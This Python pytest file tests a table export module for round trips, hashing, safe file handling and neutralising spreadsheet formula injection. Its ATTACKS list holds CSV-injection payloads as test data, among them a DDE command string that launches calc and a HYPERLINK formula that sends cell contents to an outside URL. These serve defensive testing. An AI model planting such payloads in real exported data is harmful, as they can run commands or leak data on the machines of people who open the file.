"""Tables promises that what is written can be read back, and that no cell becomes a formula."""

from __future__ import annotations

import datetime
import hashlib
import os
import re
import sqlite3
import subprocess
import sys
import tempfile
import tracemalloc
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from kit.tables import (
    KINDS,
    NAME,
    CannotHold,
    CannotRead,
    CannotWrite,
    Exists,
    TablesError,
    canonical_csv,
    guard,
    read,
    sha256,
    unguard,
    write,
)

FORMATS = ["csv", "parquet", "sqlite"]
SCHEMA = pa.schema(
    {
        "customer_id": KINDS["text"],
        "visits": KINDS["int"],
        "accepts_email": KINDS["flag"],
        "birthday": KINDS["date"],
        "created_at": KINDS["instant"],
        'odd,"=name\n': KINDS["text"],
    }.items()
)
TEXTS = st.text() | st.text("=+-@'\t\r\n＝＠ 01.\xa0\u200b\",;_x") | st.just("+12025550100")
ROWS = st.lists(
    st.tuples(
        st.none() | TEXTS,
        st.none() | st.integers(-(2**63), 2**63 - 1),
        st.none() | st.booleans(),
        st.none() | st.dates(),
        st.none() | st.datetimes(timezones=st.just(datetime.UTC)),
        st.none() | TEXTS,
    ),
    max_size=8,
)
ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://example.com?"&A1,"ok")',
    "+1-202-555-0100",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\xa0=1",
    "\ufeff=1",
    "\u200b@x",
    "＝1+1",
    "－1+1",
    "＋1+1",
    "＠x",
    "'=1",
    "''=1",
    "-",
    "+1e5",
    "-1+",
]
HARMLESS = ["", "Ana", "+12025550100", "-12.50", "-3", "'", "'t Hooft", "a=b", "1-2", "O'Brien"]


def table(rows):
    """Return rows as a table of every type."""
    columns = list(zip(*rows, strict=True)) or [()] * len(SCHEMA)
    return pa.table([pa.array(c, t) for c, t in zip(columns, SCHEMA.types, strict=True)], SCHEMA)


SMALL = table(
    [
        ("cus_1", 3, True, datetime.date(1990, 2, 28), None, "José"),
        (
            "",
            None,
            False,
            None,
            datetime.datetime(2026, 7, 18, 12, 59, 30, tzinfo=datetime.UTC),
            "",
        ),
        (None, -5, None, None, datetime.datetime(2026, 7, 18, 1, 2, 3, 4, datetime.UTC), 'a "b"\n'),
    ]
)
SMALL_CSV = """\
"customer_id","visits","accepts_email","birthday","created_at","odd,""=name
"
"cus_1",3,true,1990-02-28,,"José"
"",,false,,2026-07-18T12:59:30Z,""
,-5,,,2026-07-18T01:02:03.000004Z,"a ""b""
"
"""


@pytest.mark.parametrize("format", FORMATS)
@settings(max_examples=50, deadline=None)
@given(rows=ROWS)
@example(rows=[(None,) * 6])
@example(rows=[("",) + (None,) * 5])
@example(rows=[("\x00\r\n\ufeff", 0, False, datetime.date(1, 1, 1), None, "'")])
def test_round_trip(format, rows):
    """A shop that moves its data out and in again has what it had, to the last empty cell."""
    with tempfile.TemporaryDirectory() as folder:
        write({"customers": table(rows)}, Path(folder), format=format)
        back = read(Path(folder), schemas={"customers": SCHEMA})

    assert back["customers"].equals(table(rows))


@pytest.mark.parametrize("format", FORMATS)
def test_types_come_back_without_being_told(format, tmp_path):
    """A postcode with a leading zero is text, and stays text, although it looks like a number."""
    codes = pa.table({"postcode": ["01930", "12"], "price_cents": [1930, 12]})
    write({"small": SMALL, "codes": codes}, tmp_path, format=format)
    back = read(tmp_path)

    assert back["small"].equals(SMALL)
    assert back["codes"].equals(codes)


@pytest.mark.parametrize("format", FORMATS)
def test_a_lone_column_keeps_its_empty_rows(format, tmp_path):
    """A row of which nothing is known still is a row: the counts must agree."""
    lone = pa.table({"note": pa.array([None, "", None, "x", None], pa.string())})
    [path] = write({"lone": lone}, tmp_path, format=format)

    assert read(path)["lone"].equals(lone)


def test_a_column_that_was_empty_so_far_stays_text(tmp_path):
    """A cell far down never makes a column a number by surprise."""
    late = pa.table({"n": pa.array([None] * 10_001 + [7], pa.int64()), "s": ["x"] * 10_002})
    [path] = write({"late": late}, tmp_path)

    assert read(path)["late"].schema.types == [pa.string(), pa.string()]
    assert read(path, schemas={"late": late.schema})["late"].equals(late)


@settings(deadline=None)
@given(texts=st.lists(st.none() | TEXTS))
@example(texts=ATTACKS + HARMLESS)
def test_guard_can_be_undone(texts):
    """What a customer typed is never lost by making it safe."""
    column = pa.array(texts, pa.string())

    assert unguard(guard(column)).equals(column)
    assert unguard(guard(guard(column))).equals(guard(column))


@settings(deadline=None)
@given(text=TEXTS)
def test_guarded_text_never_starts_like_a_formula(text):
    """The first visible character decides; a number that computes nothing may stay."""
    guarded = guard(pa.array([text]))[0].as_py()
    start = re.sub(r"^[\s\u200b\ufeff]+", "", guarded)

    assert not start.startswith(tuple("=@＝＋－＠")) and not guarded.startswith(tuple("\t\r\n"))
    if start.startswith(("+", "-")):
        assert re.fullmatch(r"[+-][0-9]+(\.[0-9]+)?", guarded)


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are_guarded(text):
    """Opening the customer list must not run what a customer typed into the name field."""
    assert guard(pa.array([text]))[0].as_py() == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text):
    """A phone number in E.164 goes out as other programs need it; so does a refund of -12.50."""
    assert guard(pa.array([text]))[0].as_py() == text


def test_csv_has_the_documented_bytes(tmp_path):
    """The layout is fixed: golden hashes and sample files hang on it."""
    [path] = write({"customers": SMALL}, tmp_path)

    assert path.read_bytes().decode() == SMALL_CSV
    assert b"".join(canonical_csv(SMALL)) == path.read_bytes()


def test_hash_is_that_of_the_csv():
    """Two shops can compare their tables without sending them."""
    assert sha256(SMALL) == hashlib.sha256(SMALL_CSV.encode()).hexdigest()


@given(rows=ROWS, size=st.integers(1, 4))
@settings(max_examples=30, deadline=None)
def test_hash_does_not_depend_on_the_batches(rows, size):
    """A table made in pieces is the same table."""
    whole = table(rows)
    reader = pa.RecordBatchReader.from_batches(SCHEMA, whole.to_batches(max_chunksize=size))

    assert sha256(reader) == sha256(whole)


def test_hash_tells_empty_text_from_no_text():
    """A note that was never written is not the same as one that was emptied."""
    assert sha256(pa.table({"a": [""]})) != sha256(pa.table({"a": pa.array([None], pa.string())}))
    assert sha256(pa.table({"a": ["1"]})) != sha256(pa.table({"a": [1]}))


def test_sqlite_tables_are_strict(tmp_path):
    """The database itself refuses text in a money column."""
    [path] = write({"customers": SMALL}, tmp_path, format="sqlite", name="till")
    with sqlite3.connect(path) as db, pytest.raises(sqlite3.IntegrityError):
        db.execute("UPDATE customers SET visits = 'many'")
    db.close()

    assert path.name == "till.sqlite"


def test_parquet_is_zstd(tmp_path):
    """Ten million lines fit on the shop's old laptop."""
    [path] = write({"customers": SMALL}, tmp_path, format="parquet")

    assert pq.ParquetFile(path).metadata.row_group(0).column(0).compression == "ZSTD"


@pytest.mark.parametrize("format", FORMATS)
def test_memory_does_not_grow_with_the_rows(format, tmp_path):
    """Ten million sale lines are written on the shop's old laptop, batch by batch."""

    def peak(count):
        start, most = pa.total_allocated_bytes(), 0

        def batches():
            nonlocal most
            for _ in range(count):
                yield pa.record_batch({"sale_id": [f"sal_{i:08}" for i in range(2_000)]})
                most = max(most, pa.total_allocated_bytes() - start)

        tracemalloc.start()
        write({"sales": batches()}, tmp_path, format=format, overwrite=True)
        _, python = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return most + python

    assert peak(40) < 2 * peak(4)


def test_progress_counts_rows_of_all_tables(tmp_path):
    """The bar of a long export tells the truth."""
    calls = []
    write(
        {"a": SMALL, "b": SMALL}, tmp_path, progress=lambda done, total: calls.append((done, total))
    )

    assert calls == [(3, 6), (6, 6)]


def test_progress_admits_what_it_does_not_know(tmp_path):
    """A stream has no total."""
    calls = []
    write(
        {"a": iter(SMALL.to_batches())}, tmp_path, progress=lambda *numbers: calls.append(numbers)
    )

    assert calls == [(3, None)]


def test_an_existing_file_is_kept(tmp_path):
    """Yesterday's export is not lost to a slip."""
    write({"a": SMALL}, tmp_path)
    with pytest.raises(Exists):
        write({"b": SMALL, "a": SMALL.slice(1)}, tmp_path)

    assert [p.name for p in tmp_path.iterdir()] == ["a.csv"]
    assert read(tmp_path)["a"].equals(SMALL)
    assert write({"a": SMALL.slice(0, 2)}, tmp_path, overwrite=True)
    assert read(tmp_path)["a"].equals(SMALL.slice(0, 2))


@pytest.mark.parametrize("format", FORMATS)
def test_an_error_halfway_changes_nothing(format, tmp_path):
    """A crash in the second table leaves yesterday's files, all of them and no others."""
    write({"a": SMALL}, tmp_path, format=format)
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}

    def broken():
        yield SMALL.to_batches()[0]
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write({"a": SMALL.slice(1), "b": broken()}, tmp_path, format=format, overwrite=True)

    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before


FULL_DISK = """
import resource, sys
from pathlib import Path
import pyarrow as pa
from kit import tables
resource.setrlimit(resource.RLIMIT_FSIZE, (200_000, 200_000))
ids = pa.table({"a": [f"{i * 7919 % 1_000_003:x}-{i}" for i in range(100_000)]})
try:
    tables.write({"small": ids.slice(0, 9), "a": ids}, Path(sys.argv[1]), format=sys.argv[2])
except tables.CannotWrite as error:
    print(error)
"""


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no limit on file size to set")
@pytest.mark.parametrize("format", FORMATS)
def test_a_full_disk_is_one_plain_line_and_leaves_nothing(format, tmp_path):
    """The owner learns to make room; no half export lies about looking whole."""
    done = subprocess.run(
        [sys.executable, "-c", FULL_DISK, str(tmp_path), format], capture_output=True, text=True
    )

    assert done.stderr == ""
    assert re.fullmatch(r"writing to \S+ failed \(.+\); make room or .+\n", done.stdout)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(os.name != "posix", reason="Windows has no such file modes")
@pytest.mark.parametrize("format", FORMATS)
def test_files_can_be_read_by_their_owner_only(format, tmp_path):
    """A customer list is not readable by everyone who shares the computer."""
    [path] = write({"customers": SMALL}, tmp_path, format=format)

    assert path.stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize(
    "tables",
    [
        pytest.param({}, id="no tables"),
        pytest.param({"../a": SMALL}, id="a name that leaves the folder"),
        pytest.param({"a" * 32: SMALL}, id="a name too long for a sheet"),
        pytest.param({"a": SMALL, "A": SMALL}, id="names that differ in case only"),
        pytest.param({"a": pa.table({})}, id="no columns"),
        pytest.param({"a": pa.table([["4242"], ["x"]], names=["n", "N"])}, id="a column twice"),
        pytest.param({"a": pa.table({"n": [42.42]})}, id="a type with rounding errors"),
        pytest.param({"a": []}, id="batches without any"),
        pytest.param(
            {"a": [pa.record_batch({"n": ["4242"]}), pa.record_batch({"m": ["4242"]})]},
            id="a batch with other columns",
        ),
    ],
)
@pytest.mark.parametrize("format", FORMATS)
def test_refuses_to_write(tables, format, tmp_path):
    """What does not fit is named, nothing is written, and no value is quoted."""
    with pytest.raises(CannotHold) as caught:
        write(tables, tmp_path / "new", format=format)

    assert isinstance(caught.value, TablesError)
    assert "42" not in str(caught.value)
    assert not list(tmp_path.glob("new/*"))


def test_refuses_an_unknown_format(tmp_path):
    """A typing error is told, with the formats there are."""
    with pytest.raises(CannotHold, match="csv, parquet, sqlite"):
        write({"a": SMALL}, tmp_path, format="xls")


def test_refuses_a_folder_that_cannot_be(tmp_path):
    """A folder name that is already a file is told as such."""
    (tmp_path / "taken").write_text("")
    with pytest.raises(CannotWrite):
        write({"a": SMALL}, tmp_path / "taken")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param("a.csv", b"", id="empty file"),
        pytest.param("a.csv", b'"a","b"\n"4242"\n', id="ragged row"),
        pytest.param("a.csv", b'"a"\n1\n4242x\n', id="text among numbers"),
        pytest.param("a.csv", b'"a"\n"\xff4242"\n', id="not UTF-8"),
        pytest.param("a.csv", b'"a"\n"4242', id="a quote that never ends"),
        pytest.param("a.parquet", b"PAR14242", id="damaged Parquet"),
        pytest.param("a.sqlite", b"4242" * 200, id="no database"),
        pytest.param("a.xls", b"4242", id="another kind of file"),
    ],
)
def test_refuses_to_read(name, content, tmp_path):
    """A damaged file is told as such: no traceback, and no cell in the message."""
    (tmp_path / name).write_bytes(content)
    with pytest.raises(CannotRead) as caught:
        read(tmp_path / name)

    assert isinstance(caught.value, TablesError)
    assert "4242" not in str(caught.value)
    assert caught.value.__suppress_context__ or caught.value.__context__ is None


def test_refuses_a_folder_with_the_same_table_twice(tmp_path):
    """Nobody guesses which of two customer lists is the right one."""
    write({"a": SMALL}, tmp_path)
    write({"a": SMALL}, tmp_path, format="parquet")
    with pytest.raises(CannotRead, match="two files"):
        read(tmp_path)


def test_refuses_a_folder_without_tables(tmp_path):
    """An empty answer would look like an empty shop."""
    with pytest.raises(CannotRead):
        read(tmp_path)


def test_names_of_the_made_up_shop_are_allowed():
    """The check on names stands in nobody's way."""
    assert all(NAME.fullmatch(name) for name in ("customers", "stock_moves", "privacy_requests"))
